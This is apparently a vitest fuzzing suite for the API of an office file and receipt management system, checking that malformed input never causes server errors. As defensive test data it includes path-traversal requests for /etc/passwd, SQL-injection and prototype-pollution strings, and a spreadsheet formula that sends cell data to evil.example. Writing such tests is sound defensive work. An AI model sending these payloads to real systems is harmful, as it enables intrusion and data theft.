import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import { appendFileSync } from 'node:fs';
import { bootSystem, type TestSystem } from '../support/boot.js';
import { ApiClient, loggedIn } from '../support/api-client.js';

/**
 * Hostile and careless input never gets a 5xx. Every route of the OpenAPI document is sent
 * (1) a fixed list of known-bad inputs — non-object and malformed JSON bodies, NUL / lone
 * surrogate / bidi / control characters / huge strings in every text field, impossible dates in
 * every date field, wrong types in every field, path params that are not UUIDs or unknown, query
 * strings with NUL — and (2) random malformed requests that fast-check derives from the route's
 * schemas (fixed seed). Each runs as the admin, the dak clerk and a noting post (so handlers run
 * past their policies on items these posts really hold), public routes also anonymously. Any 5xx
 * fails the test, printing the route and the input; every 4xx must be `{error, message}` in the
 * caller's language, and validation failures must name the field.
 */

const SEED = 20261206;
const RANDOM_RUNS = 20; // per route and user
const CONCURRENCY = 4;

type Schema = Record<string, any>;
interface Param {
  name: string;
  in: 'path' | 'query';
  required: boolean;
  schema: Schema;
}
interface Op {
  method: string;
  path: string;
  access: string;
  body?: Schema;
  params: Param[];
  query: Param[];
}
interface Req {
  method: string;
  path: string;
  body?: string;
  headers?: Record<string, string>;
  note: string;
}
interface Failure {
  who: string;
  req: Req;
  status: number;
  body: unknown;
}

let system: TestSystem;
let base: string;
let doc: any;
let ops: Op[];
const users: Record<'admin' | 'dak' | 'reader' | 'anon' | 'gate', ApiClient> = {} as never;
const ids: Record<string, string> = {};

// ------------------------------------------------------------------------------------------------
// the OpenAPI document → operations

function deref(s: Schema | undefined): Schema {
  let cur = s ?? {};
  while (cur.$ref)
    cur = cur.$ref
      .split('/')
      .slice(1)
      .reduce((o: any, k: string) => o[k], doc);
  return cur;
}

function operations(): Op[] {
  const out: Op[] = [];
  for (const [p, item] of Object.entries<any>(doc.paths)) {
    for (const [method, op] of Object.entries<any>(item)) {
      const params: Param[] = (op.parameters ?? [])
        .map((x: any) => deref(x))
        .map((x: any) => ({ name: x.name, in: x.in, required: !!x.required, schema: deref(x.schema) }));
      out.push({
        method: method.toUpperCase(),
        path: p,
        access: /Access: (\w+)/.exec(op.description ?? '')?.[1] ?? 'user',
        body: op.requestBody ? deref(op.requestBody.content['application/json'].schema) : undefined,
        params: params.filter((x) => x.in === 'path'),
        query: params.filter((x) => x.in === 'query'),
      });
    }
  }
  return out;
}

// ------------------------------------------------------------------------------------------------
// a plausible value for a schema: the base that one field at a time is broken in

const typeOf = (s: Schema): string | undefined => (Array.isArray(s.type) ? s.type.find((t: string) => t !== 'null') : s.type);

/** Real ids of things the test users hold, chosen by the route and the field name. */
function idFor(name: string, path = ''): string {
  if (name === 'noteId') return ids.note!;
  if (name === 'draftId') return ids.draft!;
  if (name === 'id' || name === 'type') {
    if (path.startsWith('/api/receipts/') || path.startsWith('/api/pendency/items/')) return ids.receipt!;
    if (path.startsWith('/api/files/')) return ids.file!;
    if (path.startsWith('/api/org/offices/')) return ids.office!;
    if (path.startsWith('/api/org/sections/')) return ids.section!;
    if (path.startsWith('/api/org/posts/')) return ids.post!;
    if (path.startsWith('/api/org/users/')) return ids.user!;
    if (path.startsWith('/api/org/charges/')) return ids.charge!;
    if (path.startsWith('/api/pendency/holidays/')) return ids.holiday!;
    if (path.startsWith('/api/admin/file-heads/')) return ids.head!;
    return randomUUID();
  }
  const byField: Record<string, string | undefined> = {
    headId: ids.head,
    receiptId: ids.receipt,
    officeId: ids.office,
    parentId: ids.office,
    sectionId: ids.section,
    postId: ids.post,
    toPostId: ids.post,
    userId: ids.user,
    fileId: ids.file,
  };
  return byField[name] ?? randomUUID();
}

const SAMPLE_STRINGS = ['Sample subject', 'BADIN1', 'bad.user', '9876543210', 'QUJD', '1.2.3.4'];

function sampleString(s: Schema, name: string, path: string): string {
  if (s.format === 'uuid') return idFor(name, path);
  if (s.format === 'date') return '2026-11-20';
  if (s.format === 'date-time') return new Date(Date.now() - 60_000).toISOString();
  if (s.format === 'email') return 'officer@example.in';
  const fits = (v: string) =>
    (!s.pattern || new RegExp(s.pattern).test(v)) && v.length >= (s.minLength ?? 0) && v.length <= (s.maxLength ?? Infinity);
  const found = SAMPLE_STRINGS.find(fits);
  if (found) return found;
  return 'Sample text for a field'.padEnd(s.minLength ?? 0, 'x').slice(0, s.maxLength ?? 1000);
}

function sample(raw: Schema, name = '', path = ''): unknown {
  const s = deref(raw);
  if ('const' in s) return s.const;
  if (s.enum) return s.enum.find((v: unknown) => v !== null);
  const alts = s.anyOf ?? s.oneOf;
  if (alts) return sample(alts.find((a: Schema) => typeOf(deref(a)) !== 'null') ?? alts[0], name, path);
  switch (typeOf(s)) {
    case 'string':
      return sampleString(s, name, path);
    case 'integer':
    case 'number':
      return Math.min(Math.max(s.minimum ?? 1, 1), s.maximum ?? Infinity);
    case 'boolean':
      return false;
    case 'array':
      return s.maxItems === 0 ? [] : Array.from({ length: Math.max(1, s.minItems ?? 0) }, () => sample(s.items ?? {}, name, path));
    case 'object':
      return Object.fromEntries(Object.entries<Schema>(s.properties ?? {}).map(([k, v]) => [k, sample(v, k, path)]));
    default:
      return null;
  }
}

/** Paths to every leaf of a sampled value, with the schema that leaf came from. */
function leaves(value: unknown, raw: Schema, at: (string | number)[] = []): Array<{ at: (string | number)[]; schema: Schema }> {
  let s = deref(raw);
  const alts = s.anyOf ?? s.oneOf;
  if (alts) s = deref(alts.find((a: Schema) => typeOf(deref(a)) !== 'null') ?? alts[0]);
  if (Array.isArray(value)) return value.flatMap((v, i) => leaves(v, s.items ?? {}, [...at, i]));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, v]) => leaves(v, s.properties?.[k] ?? {}, [...at, k]));
  return [{ at, schema: s }];
}

function setAt(value: unknown, at: (string | number)[], leaf: unknown): unknown {
  const copy = structuredClone(value) as any;
  if (at.length === 0) return leaf;
  let cur = copy;
  for (const k of at.slice(0, -1)) cur = cur[k];
  cur[at[at.length - 1]!] = leaf;
  return copy;
}

// ------------------------------------------------------------------------------------------------
// bad values

const NASTY_STRINGS = ['a\u0000b', 'x\ud800y', '\u202Eevil\u202C.pdf\u200B', 'bell\u0007\u0085', 'x'.repeat(70_000), '  ', "' or 1=1 --"];
const BAD_DATES = [
  '0000-01-01',
  '9999-12-31',
  '1900-01-00',
  '1899-12-31',
  '2026-02-30',
  '10000-01-01',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59+05:30',
];
const WRONG_TYPES: unknown[] = [null, -1, 1e308, {}, ['x']];

const isDate = (s: Schema) => s.format === 'date' || s.format === 'date-time';

function badLeafValues(s: Schema): unknown[] {
  const t = typeOf(s);
  return [...WRONG_TYPES, ...(t === 'string' ? NASTY_STRINGS : []), ...(isDate(s) ? BAD_DATES : [])];
}

/** JSON text with lone surrogates written as \u escapes (JSON.stringify does that already). */
const json = (v: unknown) => JSON.stringify(v);

/** Percent-encodes a query/path value; lone surrogates become the invalid UTF-8 bytes of one. */
function enc(v: string): string {
  return [...v]
    .map((ch) => {
      const c = ch.charCodeAt(0);
      if (ch.length === 1 && c >= 0xd800 && c <= 0xdfff) return '%ED%A0%80';
      return encodeURIComponent(ch);
    })
    .join('');
}

function fillPath(op: Op, override: Record<string, string> = {}): string {
  return op.path.replace(
    /\{(\w+)\}/g,
    (_, name: string) => override[name] ?? enc(String(sample(op.params.find((p) => p.name === name)!.schema, name, op.path))),
  );
}

function queryString(op: Op, override: Record<string, string | undefined> = {}): string {
  const pairs: string[] = [];
  for (const q of op.query)
    if (q.required && !(q.name in override)) pairs.push(`${q.name}=${enc(String(sample(q.schema, q.name, op.path)))}`);
  for (const [k, v] of Object.entries(override)) if (v !== undefined) pairs.push(`${k}=${v}`);
  return pairs.length ? `?${pairs.join('&')}` : '';
}

const NON_OBJECT_BODIES = [
  'null',
  '"hi"',
  '[]',
  '[{}]',
  '123',
  'true',
  '{',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '\u0000',
  '{"a":"\\u0000"}',
  '"\\ud800"',
  '{"__proto__":{"x":1}}',
  '{"constructor":{"prototype":{}}}',
];
const BAD_PARAMS = [
  'x',
  '%00',
  'a%00b',
  '%ZZ',
  '%E0%A4%A',
  '%2e%2e%2f%2e%2e',
  '%ED%A0%80',
  'x'.repeat(3000),
  '00000000-0000-0000-0000-000000000000',
];

/** The known-bad requests for one operation. */
function knownBad(op: Op): Req[] {
  const reqs: Req[] = [];
  const path = fillPath(op);
  const qs = queryString(op);
  const sendsBody = op.method !== 'GET' && op.method !== 'DELETE';
  if (sendsBody) {
    for (const b of NON_OBJECT_BODIES) reqs.push({ method: op.method, path: path + qs, body: b, note: `body ${b}` });
    reqs.push({
      method: op.method,
      path: path + qs,
      body: 'not gzip',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      note: 'bad gzip',
    });
    reqs.push({
      method: op.method,
      path: path + qs,
      body: '{}',
      headers: { 'content-type': 'application/json', 'content-encoding': 'br, zstd, x-unknown' },
      note: 'unknown encoding',
    });
    reqs.push({
      method: op.method,
      path: path + qs,
      body: 'a=1&b=%00',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      note: 'form body',
    });
  }
  if (op.body) {
    const baseBody = sample(op.body, '', op.path);
    for (const leaf of leaves(baseBody, op.body)) {
      for (const bad of badLeafValues(leaf.schema))
        reqs.push({
          method: op.method,
          path: path + qs,
          body: json(setAt(baseBody, leaf.at, bad)),
          note: `${leaf.at.join('.')} = ${JSON.stringify(bad)?.slice(0, 40)}`,
        });
    }
    reqs.push({
      method: op.method,
      path: path + qs,
      body: json({ ...(baseBody as object), ['x\u0000y']: 1 }),
      note: 'unknown key with NUL',
    });
  }
  for (const p of op.params) {
    for (const bad of [...BAD_PARAMS, randomUUID()])
      reqs.push({
        method: op.method,
        path: fillPath(op, { [p.name]: bad }) + qs,
        body: op.body ? json(sample(op.body, '', op.path)) : undefined,
        note: `param ${p.name} = ${bad.slice(0, 40)}`,
      });
  }
  for (const q of op.query) {
    const values = [
      'a%00b',
      '%ED%A0%80',
      '%E0%A4%A',
      enc('\u202Ex\u200B'),
      'x'.repeat(5000),
      ...(isDate(q.schema) ? BAD_DATES.map(enc) : []),
      '-1',
      '1e400',
    ];
    for (const v of values)
      reqs.push({ method: op.method, path: path + queryString(op, { [q.name]: v }), note: `query ${q.name}=${v.slice(0, 40)}` });
    reqs.push({ method: op.method, path: path + queryString(op, { [q.name]: `1&${q.name}=2` }), note: `query ${q.name} twice` });
  }
  if (op.query.length) reqs.push({ method: op.method, path: `${path}?%00=1&a%00b=%00&${'k'.repeat(100)}=1`, note: 'odd query keys' });
  return reqs;
}

// ------------------------------------------------------------------------------------------------
// random malformed requests from fast-check

const nastyChar = fc.constantFrom(
  '\u0000',
  '\ud800',
  '\udfff',
  '\u202E',
  '\u2066',
  '\u200B',
  '\uFEFF',
  '\u0007',
  '\u001b',
  '\u0085',
  '\u200D',
  '\u200C',
  '\uFFFF',
  '\u{1F600}',
  'क्ष',
  '\n',
  '\t',
);
const shortNastyString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.tuple(fc.string({ maxLength: 20 }), nastyChar, fc.string({ maxLength: 20 })).map(([a, c, b]) => a + c + b),
  fc.array(nastyChar, { minLength: 1, maxLength: 6 }).map((a) => a.join('')),
  fc.integer({ min: 1, max: 1_500 }).map((n) => 'y'.repeat(n)),
);
/** In bodies strings may be huge; in URLs Node itself refuses over 16 KB of headers (431). */
const nastyString = fc.oneof(
  shortNastyString,
  fc.integer({ min: 1, max: 200_000 }).map((n) => 'y'.repeat(n)),
);
const anyDate = fc
  .tuple(fc.integer({ min: 0, max: 10_000 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 32 }))
  .map(([y, m, d]) => `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`);
const anyJson = fc.jsonValue({ maxDepth: 2 });

function badValueArb(s: Schema): fc.Arbitrary<unknown> {
  const t = typeOf(s);
  return fc.oneof(
    anyJson,
    nastyString,
    ...(isDate(s) ? [anyDate, anyDate] : []),
    ...(t === 'integer' || t === 'number' ? [fc.oneof(fc.integer(), fc.double(), fc.constant(2 ** 53), fc.constant(-(2 ** 31) - 1))] : []),
    ...(t === 'array' ? [fc.array(anyJson, { maxLength: 300 })] : []),
  );
}

function randomRequests(op: Op, seed: number): Req[] {
  const arbs: fc.Arbitrary<Req>[] = [];
  const qs = queryString(op);
  if (op.body) {
    const baseBody = sample(op.body, '', op.path);
    const ls = leaves(baseBody, op.body);
    const broken = fc.constantFrom(...ls).chain((l) => badValueArb(l.schema).map((v) => ({ at: l.at, v })));
    arbs.push(
      fc.array(broken, { minLength: 1, maxLength: 3 }).map((changes) => {
        let body = baseBody;
        for (const c of changes) body = setAt(body, c.at, c.v);
        return {
          method: op.method,
          path: fillPath(op) + qs,
          body: json(body),
          note: `random fields ${changes.map((c) => c.at.join('.')).join(', ')}`,
        };
      }),
    );
    arbs.push(anyJson.map((v) => ({ method: op.method, path: fillPath(op) + qs, body: json(v), note: 'random JSON' })));
    arbs.push(
      fc
        .string({ unit: 'binary', maxLength: 60 })
        .map((t) => ({ method: op.method, path: fillPath(op) + qs, body: t, note: 'random text as JSON' })),
    );
  }
  if (op.query.length) {
    const q = fc.dictionary(fc.constantFrom(...op.query.map((p) => p.name)), fc.oneof(shortNastyString, anyDate, fc.string()).map(enc), {
      maxKeys: 4,
    });
    arbs.push(q.map((over) => ({ method: op.method, path: fillPath(op) + queryString(op, over), note: 'random query' })));
  }
  if (op.params.length) {
    const p = fc.record(
      Object.fromEntries(
        op.params.map((x) => [x.name, fc.oneof(fc.uuid().map(String), shortNastyString.map(enc), fc.constant(idFor(x.name, op.path)))]),
      ),
    );
    arbs.push(
      p.map((over) => ({
        method: op.method,
        path: fillPath(op, over as Record<string, string>) + qs,
        body: op.body ? json(sample(op.body, '', op.path)) : undefined,
        note: 'random params',
      })),
    );
  }
  if (arbs.length === 0) return [];
  return fc.sample(fc.oneof(...arbs), { seed, numRuns: RANDOM_RUNS });
}

// ------------------------------------------------------------------------------------------------
// sending and checking

async function send(client: ApiClient, req: Req) {
  const headers: Record<string, string> = { ...(req.headers ?? {}) };
  if (req.body !== undefined && !headers['content-type']) headers['content-type'] = 'application/json';
  return client.request(req.method, req.path, req.body, headers);
}

const DEVANAGARI = /[\u0900-\u097F]/;

/** Runs the requests, a few at a time; returns every 5xx and every malformed 4xx answer. */
let sent = 0;
async function runAll(who: string, client: ApiClient, reqs: Req[]): Promise<Failure[]> {
  const failures: Failure[] = [];
  sent += reqs.length;
  let next = 0;
  const worker = async () => {
    while (next < reqs.length) {
      const req = reqs[next++]!;
      const res = await send(client, req);
      let problem = res.status >= 500;
      // 405 (an existing path, another method) and 431 (Node refuses headers over 16 KB) are not answers of a route
      if (!problem && res.status >= 400 && res.status !== 405 && res.status !== 431) {
        const b = res.body as {
          error?: unknown;
          message?: unknown;
          details?: { issues?: Array<{ path?: unknown; message?: unknown }> };
        } | null;
        problem = !b || typeof b.error !== 'string' || typeof b.message !== 'string' || !b.message;
        if (!problem && client.lang === 'hi') problem = !DEVANAGARI.test(b!.message as string);
        if (!problem && b!.error === 'VALIDATION_FAILED') {
          const issues = b!.details?.issues;
          problem =
            !Array.isArray(issues) ||
            issues.length === 0 ||
            issues.some(
              (i) =>
                !Array.isArray(i.path) ||
                typeof i.message !== 'string' ||
                !i.message ||
                (client.lang === 'hi' && !DEVANAGARI.test(i.message)),
            );
        }
      }
      if (problem) failures.push({ who, req, status: res.status, body: res.body });
    }
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, worker));
  return failures;
}

function report(failures: Failure[]): string {
  if (process.env.BAD_INPUT_DUMP) appendFileSync(process.env.BAD_INPUT_DUMP, failures.map((f) => JSON.stringify(f) + '\n').join(''));
  return (
    failures
      .slice(0, 60)
      .map(
        (f) =>
          `${f.who} ${f.req.method} ${f.req.path.slice(0, 160)} [${f.req.note}] body=${(f.req.body ?? '').slice(0, 160)} → ${f.status} ${JSON.stringify(f.body).slice(0, 300)}`,
      )
      .join('\n') + (failures.length > 60 ? `\n… and ${failures.length - 60} more` : '')
  );
}

/** Who runs a route: logout is run last (it ends the session), public routes anonymously too. */
function callers(op: Op): Array<[string, ApiClient]> {
  const out: Array<[string, ApiClient]> = [
    ['admin', users.admin],
    ['dak', users.dak],
    ['reader', users.reader],
  ];
  if (op.access === 'public') out.push(['anon', users.anon]);
  // the checkpoint routes past their policy: the SP office's gate security
  if (op.access === 'checkpoint') out.push(['gate', users.gate]);
  return out;
}
const isLogout = (op: Op) => op.path === '/api/auth/logout';

/** The body of a successful answer, or an error naming what failed. */
function ok(res: { status: number; body: any }, what = ''): any {
  if (res.status >= 300) throw new Error(`${what}: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body;
}

// ------------------------------------------------------------------------------------------------

beforeAll(async () => {
  system = await bootSystem({ env: { SERVE_FRONTEND: 'true' } });
  base = system.url!;
  users.admin = await loggedIn(base, 'admin', 'hi');
  users.dak = await loggedIn(base, 'dak.sp', 'en');
  users.reader = await loggedIn(base, 'reader.sp', 'hi');
  users.anon = new ApiClient(base, 'en');
  users.gate = await loggedIn(base, 'gate.sp', 'hi');
  doc = (await users.anon.get('/api/openapi.json')).body;
  ops = operations();

  // things the users really hold, so that handlers run past their lookups and policies
  const { admin, dak, reader } = users;
  const receipt = ok(
    await dak.post('/api/receipts', {
      receivedDate: '2026-11-20',
      mode: 'post',
      sender: 'DIG, Bareilly Range',
      letterDate: '2026-11-14',
      subject: 'Fixture receipt',
    }),
    'receipt',
  );
  ids.receipt = receipt.receipt.id;
  const heads = ok(await reader.get('/api/file-heads'), 'heads');
  const file = ok(await reader.post('/api/files', { headId: heads.items[0].id, subject: 'Fixture file' }), 'file');
  ids.file = file.id;
  ok(await reader.post(`/api/files/${file.id}/notes`, { version: file.version, body: '<p>Fixture note</p>' }), 'note');
  const afterNote = ok(await reader.get(`/api/files/${file.id}`), 'file');
  ids.note = afterNote.notes[0].id;
  ids.draft = ok(
    await reader.post(`/api/files/${file.id}/drafts`, { version: afterNote.version, subject: 'Fixture draft', body: '<p>Draft</p>' }),
    'draft',
  ).id;
  const offices = ok(await admin.get('/api/org/offices'), 'offices');
  const office = ok(
    await admin.post('/api/org/offices', {
      code: 'BAD-IN',
      name: { en: 'Fixture office', hi: 'परीक्षण कार्यालय' },
      kind: offices.items?.[0]?.kind ?? offices[0]?.kind,
      parentId: null,
    }),
    'office',
  );
  ids.office = office.id;
  ids.section = ok(
    await admin.post('/api/org/sections', { officeId: office.id, code: 'SEC', name: { en: 'Fixture section', hi: 'परीक्षण शाखा' } }),
    'section',
  ).id;
  ids.post = ok(
    await admin.post('/api/org/posts', {
      officeId: office.id,
      code: 'BAD-IN-POST',
      designation: { en: 'Fixture post', hi: 'परीक्षण पद' },
      capabilities: ['noting'],
    }),
    'post',
  ).id;
  ids.user = ok(
    await admin.post('/api/org/users', {
      username: 'fixture.user',
      name: { en: 'Fixture User', hi: 'परीक्षण उपयोगकर्ता' },
      password: 'fixture-password-1',
    }),
    'user',
  ).id;
  ids.charge = ok(await admin.post('/api/org/charges', { userId: ids.user, postId: ids.post, from: '2026-11-01' }), 'charge').id;
  ids.holiday = ok(
    await admin.post('/api/pendency/holidays', { officeId: office.id, date: '2026-12-25', name: { en: 'Christmas', hi: 'क्रिसमस' } }),
    'holiday',
  ).id;
  ids.head = ok(
    await admin.post('/api/admin/file-heads', { officeId: office.id, code: 'FIX', name: { en: 'Fixture head', hi: 'परीक्षण शीर्ष' } }),
    'head',
  ).id;
}, 120_000);
afterAll(async () => system?.stop());

describe('no input gets a 5xx', () => {
  it('covers every route of the OpenAPI document', () => {
    expect(ops.length).toBeGreaterThan(100);
    expect(ops.filter((o) => o.method !== 'GET').length).toBeGreaterThanOrEqual(64);
  });

  it('known-bad bodies, strings, dates, ids and queries on every route, as admin, dak and noting posts (and a gate on checkpoint routes)', async () => {
    const failures: Failure[] = [];
    const [before, started] = [sent, Date.now()];
    for (const op of ops.filter((o) => !isLogout(o))) {
      const reqs = knownBad(op);
      for (const [who, client] of callers(op)) failures.push(...(await runAll(who, client, reqs)));
    }
    console.log(`bad input: ${sent - before} known-bad requests in ${((Date.now() - started) / 1000).toFixed(1)} s`);
    expect(failures.length, report(failures)).toBe(0);
  }, 300_000);

  it('random malformed requests derived from the schemas (fast-check, fixed seed)', async () => {
    const failures: Failure[] = [];
    const [before, started] = [sent, Date.now()];
    let seed = SEED;
    for (const op of ops.filter((o) => !isLogout(o))) {
      for (const [who, client] of callers(op)) failures.push(...(await runAll(who, client, randomRequests(op, seed++))));
    }
    console.log(`bad input: ${sent - before} random requests in ${((Date.now() - started) / 1000).toFixed(1)} s`);
    expect(failures.length, report(failures)).toBe(0);
  }, 300_000);

  it('malformed multipart on the upload routes', async () => {
    const boundary = '----pv';
    const part = (field: string, filename: string, content: string) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: application/pdf\r\n\r\n${content}\r\n`;
    const cases: Array<{ note: string; contentType: string; body: string }> = [
      { note: 'no boundary', contentType: 'multipart/form-data', body: part('files', 'a.pdf', '%PDF-1.7') + `--${boundary}--\r\n` },
      {
        note: 'wrong field name',
        contentType: `multipart/form-data; boundary=${boundary}`,
        body: part('file_x', 'a.pdf', '%PDF-1.7 garbage') + `--${boundary}--\r\n`,
      },
      {
        note: 'truncated',
        contentType: `multipart/form-data; boundary=${boundary}`,
        body: part('files', 'a.pdf', '%PDF-1.7').slice(0, 60),
      },
      { note: 'no closing boundary', contentType: `multipart/form-data; boundary=${boundary}`, body: part('files', 'a.pdf', '%PDF-1.7') },
      {
        note: 'bad part header',
        contentType: `multipart/form-data; boundary=${boundary}`,
        body: `--${boundary}\r\nContent-Disposition\r\n\r\nx\r\n--${boundary}--\r\n`,
      },
      {
        note: 'NUL in filename',
        contentType: `multipart/form-data; boundary=${boundary}`,
        body:
          part('files', 'a\u0000b\u202E.pdf', '%PDF-1.7 garbage') +
          part('file', 'a\u0000b\u202E.pdf', '%PDF-1.7 garbage') +
          `--${boundary}--\r\n`,
      },
      { note: 'empty body', contentType: `multipart/form-data; boundary=${boundary}`, body: '' },
      { note: 'JSON instead of multipart', contentType: 'application/json', body: '{"files":1}' },
      {
        note: 'garbage PDF (scans)',
        contentType: `multipart/form-data; boundary=${boundary}`,
        body: part('files', 'g.pdf', '%PDF-1.7 garbage') + `--${boundary}--\r\n`,
      },
      {
        note: 'garbage PDF (verify)',
        contentType: `multipart/form-data; boundary=${boundary}`,
        body: part('file', 'g.pdf', '%PDF-1.7 garbage') + `--${boundary}--\r\n`,
      },
      {
        note: 'two files on verify',
        contentType: `multipart/form-data; boundary=${boundary}`,
        body: part('file', 'a.pdf', '%PDF-1.7') + part('file', 'b.pdf', '%PDF-1.7') + `--${boundary}--\r\n`,
      },
      {
        note: 'many fields',
        contentType: `multipart/form-data; boundary=${boundary}`,
        body:
          Array.from({ length: 30 }, (_, i) => `--${boundary}\r\nContent-Disposition: form-data; name="f${i}"\r\n\r\nv\r\n`).join('') +
          `--${boundary}--\r\n`,
      },
    ];
    const failures: Failure[] = [];
    for (const path of ['/api/receipts/scans', `/api/receipts/scans?receiptId=${ids.receipt}`, '/api/verify']) {
      for (const c of cases) {
        for (const [who, client] of [
          ['dak', users.dak],
          ['anon', users.anon],
        ] as const) {
          const req: Req = { method: 'POST', path, body: c.body, headers: { 'content-type': c.contentType }, note: c.note };
          failures.push(...(await runAll(who, client, [req])));
        }
      }
    }
    expect(failures.length, report(failures)).toBe(0);
    // the garbage file on verify is answered, not crashed on
    const garbage = cases.find((c) => c.note === 'garbage PDF (verify)')!;
    const res = await users.anon.request('POST', '/api/verify', garbage.body, { 'content-type': garbage.contentType });
    expect(res.status).toBeLessThan(500);
  });

  it('a method a route does not have answers 405 as {error, message} in the user’s language', async () => {
    const admin = await loggedIn(base, 'admin', 'hi');
    for (const [method, path] of [
      ['DELETE', '/api/org/offices'],
      ['PUT', '/api/org/offices'],
      ['PATCH', '/api/auth/login'],
    ] as const) {
      const res = await admin.request(method, path, {});
      expect(res.status, `${method} ${path} ${JSON.stringify(res.body)}`).toBe(405);
      expect(res.body.error).toBe('METHOD_NOT_ALLOWED');
      expect(res.body.message).toMatch(/[\u0900-\u097F]/); // admin reads Hindi
    }
  });

  it('static paths with .. never reach outside the web app (404 or 400, never 500)', async () => {
    const url = new URL(base);
    const raw = (p: string) =>
      new Promise<{ status: number; body: string }>((resolve, reject) => {
        const r = http.request({ host: url.hostname, port: url.port, path: p, method: 'GET' }, (res) => {
          let body = '';
          res.on('data', (c: Buffer) => (body += c.toString()));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        });
        r.on('error', reject);
        r.end();
      });
    for (const p of [
      '/../../etc/passwd',
      '/..%2f..%2fetc/passwd',
      '/%2e%2e/%2e%2e/etc/passwd',
      '/assets/../../../etc/passwd',
      '/api/../../etc/passwd',
      '/%00',
      '/a%00b.js',
      '/%ZZ',
      '/assets/%E0%A4%A',
      '//etc/passwd',
      '/\\..\\..\\etc\\passwd',
      '/api/%2e%2e/openapi.json',
    ]) {
      const res = await raw(p);
      expect(res.status, `${p} → ${res.status} ${res.body.slice(0, 200)}`).toBeLessThan(500);
      expect(res.body, p).not.toMatch(/root:.*:0:0:/); // at most the web app's index.html (history-mode fallback)
    }
  });
  it('a rejected request leaves nothing half-created: no diary number used, no draft receipt, no office', async () => {
    const { dak, admin } = users;
    const letter = { receivedDate: '2026-11-20', mode: 'post', sender: 'SSP, Bareilly', letterDate: '2026-11-14', subject: 'Gap check' };
    const number = async () => Number((ok(await dak.post('/api/receipts', letter)).diaryNumber as string).split('/').pop());
    const drafts = async () => ok(await dak.get('/api/inbox?status=draft&pageSize=1')).total as number;
    const offices = async () =>
      (ok(await admin.get('/api/org/offices')).items?.length ?? ok(await admin.get('/api/org/offices')).length) as number;
    const first = await number();
    const [draftsBefore, officesBefore] = [await drafts(), await offices()];
    const rejected = [
      { ...letter, subject: 'a\u0000b' },
      { ...letter, sender: 'x\ud800y' },
      { ...letter, receivedDate: '0000-01-01' },
      { ...letter, letterDate: '9999-12-31' },
      { ...letter, dueDate: '2026-11-01' },
      { ...letter, register: 'rti', registerReference: 'x\ud800y' },
    ];
    for (const body of rejected) expect((await dak.post('/api/receipts', body)).status, JSON.stringify(body)).toBe(400);
    expect(
      (
        await dak.request(
          'POST',
          '/api/receipts/scans',
          '--x\r\nContent-Disposition: form-data; name="files"; filename="a.pdf"\r\n\r\n%PDF',
          { 'content-type': 'multipart/form-data; boundary=x' },
        )
      ).status,
    ).toBe(400);
    expect(
      (await admin.post('/api/org/offices', { code: 'NUL-1', name: { en: 'a\u0000', hi: 'क' }, kind: 'police_station', parentId: null }))
        .status,
    ).toBe(400);
    expect(await number()).toBe(first + 1);
    expect(await drafts()).toBe(draftsBefore);
    expect(await offices()).toBe(officesBefore);
  });

  it('CSV exports neutralise formulas: a subject =HYPERLINK(…) is text in the spreadsheet', async () => {
    const { dak } = users;
    ok(
      await dak.post('/api/receipts', {
        receivedDate: '2026-11-20',
        mode: 'post',
        sender: '@SUM(1+1)',
        subject: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      }),
    );
    const res = await fetch(`${base}/api/pendency/items/export?format=csv&pageSize=200`, { headers: { cookie: dak.cookieHeader() } });
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`);
    for (const line of csv.split('\n'))
      for (const cell of line.split(',')) expect(cell.replace(/^"/, ''), line).not.toMatch(/^[=+@\t\r]|^-[^0-9]/);
  });
});
